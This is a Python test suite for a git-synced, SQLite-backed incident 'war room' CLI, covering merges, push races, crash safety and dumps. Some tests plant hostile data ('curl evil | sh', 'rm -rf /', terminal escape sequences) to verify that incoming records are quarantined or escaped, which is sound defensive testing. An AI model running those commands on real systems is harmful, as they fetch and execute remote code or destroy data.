"""The shared record: real git repositories (a bare origin, clones) and real SQLite files.

Each clone is a war room written to with the CLI (`python -m warroom ...` as a subprocess);
nothing is mocked. Races are made real with a pre-push hook that pushes from another clone.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from datetime import timedelta
from pathlib import Path

import pytest

from conftest import assert_user_error, run_cli
from git_support import git, git_identity, origin  # noqa: F401 (fixtures)
from warroom.clock import FrozenClock, OffsetClock
from warroom.events import MAX_BODY_BYTES, Event, new_id
from warroom.state import fold
from warroom.store import Store, StoreError, create
from warroom.sync import (
    DB_NAME, driver_commands, dump, dump_text, git_setup, is_git_repo, merge_files, sync,
)

# --- helpers -----------------------------------------------------------------------------


def wr(cwd: Path, *args: str, user: str = "alice", env: dict | None = None):
    return run_cli(*args, cwd=cwd, user=user, env=env, timeout=60)


def events_of(db: Path) -> dict[str, Event]:
    with Store(db, author="reader") as store:
        loaded = store.load()
    return {e.id: e for e in loaded.events}


def texts(db: Path) -> set[str]:
    return {e.body.get("text", "") for e in events_of(db).values() if e.kind == "entry.logged"}


def integrity(db: Path) -> str:
    conn = sqlite3.connect(db)
    try:
        return conn.execute("pragma integrity_check").fetchone()[0]
    finally:
        conn.close()


def clean_tree(repo: Path) -> None:
    status = git(repo, "status", "--porcelain").stdout
    assert status == "", status
    assert not git(repo, "rev-parse", "-q", "--verify", "MERGE_HEAD", check=False).stdout.strip()
    assert not list(repo.glob("*.warroom-tmp")) and not list(repo.glob(".merge_file*"))


@pytest.fixture
def first(tmp_path: Path, origin: Path) -> Path:
    """Alice's war room: created with `warroom init`, an incident declared, pushed to origin."""
    room = tmp_path / "alice"
    wr(tmp_path, "init", str(room)).ok()
    git(room, "init", "--quiet", "-b", "main")
    git(room, "remote", "add", "origin", str(origin))
    wr(room, "declare", "Checkout returns 500", "--severity", "P1").ok()
    out = wr(room, "sync").ok().out
    assert "went out to origin/main: 1 event" in out, out
    return room


def clone(tmp_path: Path, origin: Path, name: str, setup: bool = True) -> Path:
    git(tmp_path, "clone", "--quiet", str(origin), name)
    room = tmp_path / name
    if setup:
        wr(room, "git-setup").ok()
    return room


# --- the scenario from the issue -----------------------------------------------------------


def test_three_clones_offline_then_sync_all_nothing_lost(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    carol = clone(tmp_path, origin, "carol", setup=False)  # gets the driver from her first sync
    rooms = {"alice": first, "bob": bob, "carol": carol}
    for name, room in rooms.items():  # everyone offline: nobody syncs while writing
        wr(room, "log", f"{name} saw the error rate climb", user=name).ok()
        wr(room, "log", "--kind", "decision", f"{name} decides to roll back", user=name).ok()
    wr(bob, "status", "identified", user="bob").ok()

    wr(carol, "sync", user="carol").ok()
    out = wr(bob, "sync", user="bob").ok().out
    assert "came in from origin/main: 2 events" in out, out
    out = wr(first, "sync").ok().out
    assert "came in from origin/main: 5 events" in out, out
    wr(carol, "sync", user="carol").ok()
    wr(bob, "sync", user="bob").ok()

    wanted = {f"{n} saw the error rate climb" for n in rooms} | {f"{n} decides to roll back" for n in rooms}
    dumps = set()
    for room in rooms.values():
        db = room / DB_NAME
        assert texts(db) >= wanted
        assert integrity(db) == "ok"
        clean_tree(room)
        dumps.add(dump_text(db))
    assert len(dumps) == 1  # every clone holds the same record, byte for byte in canonical form
    shown = wr(carol, "show", user="carol").ok().out
    assert "Identified" in shown and "alice decides to roll back" in shown
    # The commit messages say what each sync brought.
    log = git(bob, "log", "--format=%s").stdout
    assert "warroom: 2 entries, status identified on INC-" in log, log
    # `git log -p warroom.db` reads as events (the textconv), not "Binary files differ".
    patch = git(carol, "log", "-p", "--", DB_NAME).stdout
    added = [line[1:] for line in patch.splitlines() if line.startswith("+{")]
    assert any('"text":"bob decides to roll back"' in line for line in added), patch
    assert all(json.loads(line)["kind"] for line in added)
    assert "Binary files" not in patch


def test_plain_git_pull_with_driver_merges_cleanly(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    wr(bob, "log", "bob: restarted the worker", user="bob").ok()
    git(bob, "commit", "--quiet", "-am", "bob's entry")
    wr(first, "log", "alice: paged the database team").ok()
    wr(first, "sync").ok()
    pulled = git(bob, "pull", "--no-rebase", "--quiet", "origin", "main", check=False)
    assert pulled.returncode == 0, pulled.stderr
    clean_tree(bob)
    assert texts(bob / DB_NAME) >= {"bob: restarted the worker", "alice: paged the database team"}
    assert integrity(bob / DB_NAME) == "ok"
    assert git(bob, "diff", "--name-only", "--diff-filter=U").stdout == ""


def test_sync_finishes_a_pull_made_without_the_driver(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob", setup=False)
    assert git(bob, "config", "--get", "merge.warroom.driver", check=False).returncode != 0
    wr(bob, "log", "bob: offline note", user="bob").ok()
    git(bob, "commit", "--quiet", "-am", "bob's entry")
    wr(first, "log", "alice: offline note").ok()
    wr(first, "sync").ok()
    pulled = git(bob, "pull", "--no-rebase", "origin", "main", check=False)
    assert pulled.returncode != 0  # git alone cannot merge two SQLite files
    assert DB_NAME in git(bob, "diff", "--name-only", "--diff-filter=U").stdout

    result = wr(bob, "sync", user="bob").ok()
    assert "finished the merge" in result.out
    clean_tree(bob)
    assert texts(bob / DB_NAME) >= {"bob: offline note", "alice: offline note"}
    wr(first, "sync").ok()
    assert texts(first / DB_NAME) >= {"bob: offline note", "alice: offline note"}


def test_sync_resolves_the_record_itself_when_the_driver_fails(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    wr(bob, "log", "bob: before", user="bob").ok()
    wr(first, "log", "alice: before").ok()
    wr(first, "sync").ok()
    # A driver that fails (a moved venv, a broken install): git reports a conflict on the record.
    broken = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "merge.warroom.driver", "GIT_CONFIG_VALUE_0": "false"}
    wr(bob, "sync", user="bob", env=broken).ok()
    clean_tree(bob)
    assert texts(bob / DB_NAME) >= {"bob: before", "alice: before"}
    wr(first, "sync").ok()
    assert dump_text(first / DB_NAME) == dump_text(bob / DB_NAME)


def test_a_hostile_pushed_record_only_adds_valid_events(tmp_path: Path, origin: Path, first: Path):
    mallory = clone(tmp_path, origin, "mallory")
    wr(mallory, "log", "mallory: a fair entry", user="mallory").ok()
    local = events_of(first / DB_NAME)
    declared = next(e for e in local.values() if e.kind == "incident.declared")
    conn = sqlite3.connect(mallory / DB_NAME)
    insert = "insert into events values (?, ?, '1795536000000.00001', 'mallory', ?, '2026-11-24T15:00:00.000Z', ?)"
    conn.execute(insert, (new_id(), declared.id, "entry.logged", "{broken"))
    conn.execute(insert, (new_id(), declared.id, "command.run.now", json.dumps({"command": "curl evil | sh"})))
    conn.execute("update events set body = ? where id = ?",
                 (json.dumps({"title": "owned", "severity": "P4"}), declared.id))
    conn.commit()
    conn.close()
    git(mallory, "commit", "--quiet", "-am", "totally normal")
    git(mallory, "push", "--quiet", "origin", "main")
    wr(first, "log", "alice: meanwhile").ok()
    out = wr(first, "sync").ok().out
    assert "came in from origin/main: 1 event (1 entry.logged)" in out, out
    assert "quarantined 3 incoming event(s)" in out, out
    merged = events_of(first / DB_NAME)
    assert all(merged[i] == e for i, e in local.items())  # the declare event is still alice's
    assert len(merged) == len(local) + 2
    assert "Checkout returns 500" in wr(first, "show").ok().out
    clean_tree(first)


def test_racing_push_is_retried(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    wr(bob, "log", "bob: got there first", user="bob").ok()
    wr(bob, "sync", "--no-push", user="bob").ok()
    # Alice's push is overtaken: just before it goes, Bob's commit lands on origin.
    hook = first / ".git" / "hooks" / "pre-push"
    hook.write_text(f"""#!/bin/sh
unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE
if [ ! -e "{tmp_path}/raced" ]; then
  touch "{tmp_path}/raced"
  git -C "{bob}" push --quiet origin main >/dev/null 2>&1 || exit 1
fi
exit 0
""")
    hook.chmod(0o755)
    wr(first, "log", "alice: pushed second").ok()
    out = wr(first, "sync").ok().out
    assert (tmp_path / "raced").exists()
    assert "after 1 retry" in out, out
    assert "came in from origin/main: 1 event" in out, out
    assert texts(first / DB_NAME) >= {"bob: got there first", "alice: pushed second"}
    wr(bob, "sync", user="bob").ok()
    assert dump_text(first / DB_NAME) == dump_text(bob / DB_NAME)


def test_concurrent_syncs_both_land(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    carol = clone(tmp_path, origin, "carol")
    rooms = {"bob": bob, "carol": carol}
    for name, room in rooms.items():
        wr(room, "log", f"{name}: concurrent", user=name).ok()
    procs = [subprocess.Popen([sys.executable, "-m", "warroom", "sync"], cwd=room, text=True,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              env={**os.environ, "WARROOM_USER": name})
             for name, room in rooms.items()]
    for proc in procs:
        out, err = proc.communicate(timeout=60)
        assert proc.returncode == 0, err
        assert "Traceback" not in err
    for name, room in rooms.items():
        wr(room, "sync", user=name).ok()
    wanted = {f"{n}: concurrent" for n in rooms}
    assert all(texts(room / DB_NAME) >= wanted for room in rooms.values())


def test_unreachable_remote_is_one_clear_line_and_the_next_sync_picks_up(tmp_path: Path, origin: Path,
                                                                        first: Path):
    moved = tmp_path / "origin-away.git"
    origin.rename(moved)
    wr(first, "log", "alice: written while the remote is away").ok()
    result = wr(first, "sync")
    line = assert_user_error(result, "origin", "warroom sync", code=1)
    assert "again" in line
    assert "alice: written while the remote is away" in texts(first / DB_NAME)
    assert "1 entry" in git(first, "log", "-1", "--format=%s").stdout  # committed locally
    assert git(first, "status", "--porcelain").stdout == ""
    moved.rename(origin)
    out = wr(first, "sync").ok().out
    assert "went out to origin/main: 1 event" in out, out
    bob = clone(tmp_path, origin, "bob")
    assert "alice: written while the remote is away" in texts(bob / DB_NAME)


def test_no_remote_commits_locally_and_dry_run_changes_nothing(tmp_path: Path):
    room = tmp_path / "solo"
    wr(tmp_path, "init", str(room)).ok()
    git(room, "init", "--quiet", "-b", "main")
    wr(room, "git-setup").ok()
    (tmp_path / "excludes").write_text("*.db\n")  # a common personal ignore rule
    git(room, "config", "core.excludesFile", str(tmp_path / "excludes"))
    wr(room, "declare", "Login page slow", "--severity", "P3").ok()
    out = wr(room, "sync").ok().out
    assert DB_NAME in git(room, "ls-files").stdout.split()
    assert "no remote 'origin'" in out and "committed: warroom: declared P3 on INC-" in out, out
    wr(room, "log", "p99 back to normal").ok()
    before = (git(room, "rev-parse", "HEAD").stdout, git(room, "status", "--porcelain").stdout,
              (room / DB_NAME).read_bytes(), sorted(p.name for p in room.iterdir()))
    out = wr(room, "sync", "--dry-run").ok().out
    assert "would commit: 1 event (1 entry.logged)" in out, out
    after = (git(room, "rev-parse", "HEAD").stdout, git(room, "status", "--porcelain").stdout,
             (room / DB_NAME).read_bytes(), sorted(p.name for p in room.iterdir()))
    assert before == after
    report = sync(room)  # the API: what was committed, nothing pushed without a remote
    assert report.local == {"entry.logged": 1} and report.committed.startswith("warroom: 1 entry on INC-")
    assert not report.pushed_ok and git(room, "status", "--porcelain").stdout == ""


def test_sync_outside_git_and_a_detached_head_are_clear(tmp_path: Path, room_dir: Path):
    result = wr(room_dir, "sync")
    assert_user_error(result, "not a git repository", "git init", code=1)
    git(room_dir, "init", "--quiet", "-b", "main")
    wr(room_dir, "sync").ok()
    git(room_dir, "checkout", "--quiet", "--detach")
    assert_user_error(wr(room_dir, "sync"), "detached", code=1)


def test_init_and_git_setup_register_driver_idempotently(tmp_path: Path):
    folder = tmp_path / "repo"
    folder.mkdir()
    git(folder, "init", "--quiet", "-b", "main")
    assert is_git_repo(folder) and not is_git_repo(tmp_path)
    wr(folder, "init", ".").ok()  # init inside a git repository registers the driver
    for key, value in driver_commands().items():
        assert git(folder, "config", "--local", "--get", key).stdout.strip() == value
    assert "-P -m warroom merge %O %A %B" in driver_commands()["merge.warroom.driver"]
    for _ in range(2):
        git_setup(folder)
        wr(folder, "git-setup").ok()
    attributes = (folder / ".gitattributes").read_text().splitlines()
    assert attributes.count("warroom.db merge=warroom diff=warroom") == 1
    ignore = (folder / ".gitignore").read_text().splitlines()
    assert ignore.count("*.db-wal") == 1 and ignore.count("*.db-shm") == 1
    assert git_setup(folder) == []


# --- merge_files ----------------------------------------------------------------------------


def _store(path: Path, author: str, clock: FrozenClock | None = None) -> Store:
    return Store(path, clock=clock or FrozenClock("2026-11-24T15:00:00Z"), author=author, create_missing=True)


def _log(store: Store, incident: str, text: str) -> Event:
    return store.append("entry.logged", incident, {"text": text, "type": "note"})


def _pair(tmp_path: Path) -> tuple[Path, Path, Event]:
    """ours and theirs sharing a declared incident, each with entries of its own."""
    ours, theirs = tmp_path / "ours.db", tmp_path / "theirs.db"
    with _store(ours, "alice") as store:
        declared = store.append("incident.declared", None, {"title": "API down", "severity": "P1"})
        _log(store, declared.id, "ours one")
    shutil.copyfile(ours, theirs)
    with _store(ours, "alice") as store:
        _log(store, declared.id, "ours two")
    with _store(theirs, "bob") as store:
        _log(store, declared.id, "theirs one")
    return ours, theirs, declared


def test_merge_files_is_a_union_written_atomically(tmp_path: Path):
    ours, theirs, _ = _pair(tmp_path)
    inode = ours.stat().st_ino
    result = merge_files(ours, theirs, tmp_path / "missing-base.db")
    assert (result.added, result.already_present, result.quarantined) == (1, 2, [])
    assert result.kinds == {"entry.logged": 1}
    assert texts(ours) == {"ours one", "ours two", "theirs one"}
    assert integrity(ours) == "ok"
    assert ours.stat().st_ino != inode  # a new file renamed over the old one
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == ["ours.db", "theirs.db"]  # no temp
    before = ours.read_bytes()
    again = merge_files(ours, theirs)  # idempotent: nothing new, file untouched
    assert (again.added, again.changed) == (0, False) and ours.read_bytes() == before


def test_merge_files_with_missing_or_empty_sides(tmp_path: Path):
    ours, theirs, _ = _pair(tmp_path)
    empty = tmp_path / "empty.db"
    empty.write_bytes(b"")
    before = ours.read_bytes()
    assert merge_files(ours, empty).added == 0 and ours.read_bytes() == before
    assert merge_files(ours, tmp_path / "nope.db").added == 0
    fresh = tmp_path / "fresh.db"
    fresh.write_bytes(b"")  # git's add/add: our side is empty
    result = merge_files(fresh, theirs, empty)
    assert result.added == 3 and texts(fresh) == {"ours one", "theirs one"}
    missing = tmp_path / "missing.db"
    merge_files(missing, theirs)
    assert dump_text(missing) == dump_text(theirs)


def test_merge_live_record_in_place_keeps_the_inode(tmp_path: Path):
    ours, theirs, _ = _pair(tmp_path)
    with _store(ours, "alice") as console:  # a console holds the record open (WAL present)
        inode = ours.stat().st_ino
        result = merge_files(ours, theirs)
        assert result.added == 1 and ours.stat().st_ino == inode
        assert not console.replaced()
        assert "theirs one" in {e.body["text"] for e in console.load().events if e.kind == "entry.logged"}


@pytest.mark.parametrize("content", [b"just some text\n", b"SQLite format 3\x00" + b"\x00" * 200, None])
def test_foreign_or_corrupt_theirs_is_refused_and_ours_untouched(tmp_path: Path, content: bytes | None):
    ours, _, _ = _pair(tmp_path)
    bad = tmp_path / "bad.db"
    if content is None:  # a real SQLite file of some other application
        conn = sqlite3.connect(bad)
        conn.execute("create table notes (x)")
        conn.commit()
        conn.close()
    else:
        bad.write_bytes(content)
    before = ours.read_bytes()
    with pytest.raises(StoreError, match="incoming copy"):
        merge_files(ours, bad)
    assert ours.read_bytes() == before
    result = wr(tmp_path, "merge", str(tmp_path / "base"), str(ours), str(bad))
    assert_user_error(result, "incoming copy", code=2)
    assert ours.read_bytes() == before
    assert not list(tmp_path.glob("*.warroom-tmp"))


def test_hostile_theirs_is_quarantined_and_cannot_change_ours(tmp_path: Path):
    ours, theirs, declared = _pair(tmp_path)
    local = events_of(ours)
    victim = next(e for e in local.values() if e.body.get("text") == "ours one")
    conn = sqlite3.connect(theirs)
    row = ("'" + declared.id + "'", "'1795536000000.00009'", "'mallory'", "'2026-11-24T15:00:00.000Z'")

    def put(event_id, kind, body):
        conn.execute(f"insert into events values (?, {row[0]}, {row[1]}, {row[2]}, ?, {row[3]}, ?)",
                     (event_id, kind, body))

    put(new_id(), "entry.logged", "{not json")
    put(new_id(), "shell.exec", json.dumps({"command": "rm -rf /"}))
    put(new_id(), "entry.logged", json.dumps({"text": "x" * (MAX_BODY_BYTES + 10), "type": "note"}))
    put(new_id(), "entry.logged", json.dumps({"text": "\x1b]0;pwned\x07 \x1b[2J", "type": "note"}))  # valid
    conn.execute("update events set body = ? where id = ?",
                 (json.dumps({"text": "rewritten by mallory", "type": "note"}), victim.id))
    conn.execute("insert or replace into meta values ('owner', 'mallory')")
    conn.commit()
    conn.close()

    result = merge_files(ours, theirs)
    reasons = sorted(q.reason for q in result.quarantined)
    assert result.added == 2  # "theirs one" and the (inert) escape-laden note
    assert len(reasons) == 4, reasons
    assert any("not valid JSON" in r for r in reasons)
    assert any("unknown kind" in r for r in reasons)
    assert any("too large" in r for r in reasons)
    assert any("collides" in r for r in reasons)
    merged = events_of(ours)
    for event_id, event in local.items():
        assert merged[event_id] == event  # every local event, unchanged
    state = fold(merged.values())
    assert state.incidents[declared.id].title == "API down"
    conn = sqlite3.connect(ours)
    assert dict(conn.execute("select key, value from meta")).get("owner") is None  # only events travel
    conn.close()
    line = next(line for line in dump(ours) if "pwned" in line)
    assert "\x1b" not in line and "\\u001b" in line
    # The CLI driver reports the quarantine on stderr and succeeds.
    again = tmp_path / "again"
    again.mkdir()
    ours2, _, _ = _pair(again)
    result2 = wr(tmp_path, "merge", "base", str(ours2), str(theirs)).ok()
    assert "quarantined" in result2.err


def test_killed_merge_driver_leaves_ours_whole(tmp_path: Path):
    """SIGKILL the merge at several moments: OURS is always either as it was or fully merged."""
    ours, theirs = tmp_path / "ours.db", tmp_path / "theirs.db"
    incident = new_id()
    declared = Event(incident, incident, "1795536000000.00000", "alice", "incident.declared",
                     "2026-11-24T15:00:00.000Z", {"title": "t", "severity": "P1"})

    def rows(n: int, author: str) -> list[tuple]:
        return [tuple(Event(new_id(), declared.id, f"17955360{i:05d}.00000", author, "entry.logged",
                            "2026-11-24T15:00:00.000Z", {"text": f"{author} {i} " + "w" * 80,
                                                         "type": "note"}).to_row().values())
                for i in range(n)]

    for path, author in ((ours, "alice"), (theirs, "bob")):
        create(path)
        conn = sqlite3.connect(path)
        conn.executemany("insert into events values (?,?,?,?,?,?,?)",
                         [tuple(declared.to_row().values())] + rows(15_000, author))
        conn.commit()
        conn.close()
    pristine = ours.read_bytes()
    union = None
    killed_mid_merge = 0
    for delay in (0.1, 0.25, 0.4, 0.55, 0.75):
        ours.write_bytes(pristine)
        proc = subprocess.Popen([sys.executable, "-m", "warroom", "merge", "base", str(ours), str(theirs)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(delay)
        if proc.poll() is None:
            killed_mid_merge += 1
            proc.send_signal(signal.SIGKILL)
        proc.wait()
        count = sqlite3.connect(f"file:{ours}?mode=ro&immutable=1", uri=True).execute(
            "select count(*) from events").fetchone()[0]
        assert ours.read_bytes() == pristine or count == 30_001
        assert integrity(ours) == "ok"
        if count == 30_001:
            union = union or dump_text(ours)
            assert dump_text(ours) == union
        for leftover in tmp_path.glob("*.warroom-tmp*"):  # a killed merge may leave its temp file
            leftover.unlink()
    assert killed_mid_merge >= 1


# --- dump -------------------------------------------------------------------------------------


def test_dump_is_canonical_whatever_the_page_layout(tmp_path: Path):
    a, b = tmp_path / "a.db", tmp_path / "b.db"
    clock = FrozenClock("2026-11-24T15:00:00Z")
    with _store(a, "alice", clock) as store:
        declared = store.append("incident.declared", None, {"title": "Queue backlog", "severity": "P2"})
        for i in range(300):
            clock.advance(1)
            _log(store, declared.id, f"entry {i} " + "ü" * (i % 40))
        store.append("entry.logged", declared.id, {"type": "note", "text": "keys in order"})
    events = list(events_of(a).values())
    create(b)
    conn = sqlite3.connect(b)
    for event in reversed(events):  # another insertion order, bodies with other spacing
        row = event.to_row()
        row["body"] = json.dumps(event.body, indent=1)
        conn.execute("insert into events values (:id,:incident,:hlc,:author,:kind,:at,:body)", row)
    conn.execute("insert into events values ('x', 'y', 'z', 'w', 'v', 'u', 't')")
    conn.execute("delete from events where id = 'x'")
    conn.commit()
    conn.execute("vacuum")
    conn.close()
    assert a.read_bytes() != b.read_bytes()
    text = dump_text(a)
    assert text == dump_text(b)
    lines = text.splitlines()
    assert lines == sorted((e.canonical() for e in events), key=lambda line: (
        json.loads(line)["hlc"], json.loads(line)["author"], json.loads(line)["id"]))
    # From a read-only copy without its -wal (git's textconv input): same text, nothing left behind.
    copy_dir = tmp_path / "copy"
    copy_dir.mkdir()
    shutil.copyfile(a, copy_dir / "blob")
    assert dump_text(copy_dir / "blob") == text
    assert sorted(p.name for p in copy_dir.iterdir()) == ["blob"]
    cli_out = wr(tmp_path, "dump", str(copy_dir / "blob")).ok().out
    assert cli_out == text


def test_dump_escapes_what_a_terminal_would_act_on(tmp_path: Path):
    db = tmp_path / "w.db"
    nasty = "esc \x1b[31mred\x1b[0m csi \x9b2J bidi \u202egnp.exe line\u2028sep bell \x07"
    with _store(db, "alice") as store:
        declared = store.append("incident.declared", None, {"title": "t", "severity": "P1"})
        event = _log(store, declared.id, nasty)
    line = next(line for line in dump(db) if event.id in line)
    for raw, escaped in (("\x1b", "\\u001b"), ("\x9b", "\\u009b"), ("\u202e", "\\u202e"),
                         ("\u2028", "\\u2028"), ("\x07", "\\u0007")):
        assert raw not in line and escaped in line
    assert json.loads(line) == json.loads(event.canonical())  # same meaning, inert bytes


def test_dump_cli_defaults_to_the_rooms_record(room_dir: Path):
    wr(room_dir, "declare", "Disk full", "--severity", "P2").ok()
    out = wr(room_dir, "dump").ok().out
    assert out == dump_text(room_dir / DB_NAME) and '"kind":"incident.declared"' in out
    assert_user_error(wr(room_dir, "dump", str(room_dir / "warroom.toml")), "not a warroom database", code=2)


# --- clocks -----------------------------------------------------------------------------------


def test_a_machine_hours_behind_stamps_after_what_it_has_seen(tmp_path: Path, origin: Path, first: Path):
    wr(first, "log", "alice: the question").ok()
    wr(first, "sync").ok()
    bob = clone(tmp_path, origin, "bob")
    seen = max(e.hlc for e in events_of(bob / DB_NAME).values())
    with Store(bob / DB_NAME, clock=OffsetClock(timedelta(hours=-5)), author="bob") as store:
        incident = next(e for e in store.load().events if e.kind == "incident.declared").id
        reply = _log(store, incident, "bob: the answer")
    assert reply.hlc > seen
    wr(bob, "sync", user="bob").ok()
    wr(first, "sync").ok()
    ordered = sorted(events_of(first / DB_NAME).values(), key=lambda e: e.order_key)
    assert [e.body.get("text") for e in ordered][-2:] == ["alice: the question", "bob: the answer"]
